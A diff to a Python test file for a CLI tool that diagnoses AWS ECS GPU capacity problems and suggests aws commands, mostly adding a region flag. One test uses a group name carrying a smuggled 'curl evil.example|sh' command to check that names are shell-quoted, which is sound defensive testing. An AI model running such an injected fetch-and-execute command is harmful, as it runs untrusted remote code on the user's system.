@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 from contextlib import suppress
 from pathlib import Path
 from typing import Any
@@ -106,7 +107,7 @@ def test_the_guide_shows_what_the_command_prints(
     monkeypatch.setenv("COLUMNS", "80")
     assert main(["why", "chat", str(path), "--region", "us-east-1"]) == 1
     page = (Path(__file__).parents[2] / "docs" / "planning.md").read_text(encoding="utf-8")
-    assert f"$ gpu-constructs why chat --cluster demo\n{capsys.readouterr().out}```\n" in page
+    assert f"$ gpu-constructs why chat --cluster demo --region us-east-1\n{capsys.readouterr().out}```\n" in page
 
 
 def test_a_provider_of_managed_instances_is_named_as_not_looked_at() -> None:
@@ -310,10 +311,11 @@ def test_a_provider_that_the_cluster_lacks_is_added_to_those_that_it_has() -> No
         "capacityProviders": [],
     }
     cause = causes_of(named)[0]
-    assert cause.text == "the cluster has no such capacity provider; it has a and b"
+    assert cause.text.startswith("the cluster has no such capacity provider; it has a and b. ")
+    assert cause.text.endswith("; the command replaces the whole list")
     assert cause.fix == (
         "aws ecs put-cluster-capacity-providers --cluster 'my demo' --capacity-providers a b gpu "
-        "--default-capacity-provider-strategy '[]', which replaces the whole list, or another provider in the strategy"
+        "--default-capacity-provider-strategy '[]' --region us-east-1"
     )
 
 
@@ -321,7 +323,9 @@ def test_names_in_commands_are_quoted() -> None:
     name = "g; curl evil.example|sh #"
     answer = json.loads(json.dumps(cluster(group={"SuspendedProcesses": [{"ProcessName": "Launch"}]})))
     text = json.dumps(answer).replace("gpu-group", name)
-    assert causes_of(json.loads(text))[0].fix.endswith(" --auto-scaling-group-name 'g; curl evil.example|sh #'")
+    fix = causes_of(json.loads(text))[0].fix
+    assert shlex.split(fix)[:5] == ["aws", "autoscaling", "resume-processes", "--auto-scaling-group-name", name]
+    assert fix.endswith(" --scaling-processes Launch --region us-east-1")
 
 
 def test_a_maximum_is_raised_to_what_the_missing_tasks_take() -> None:
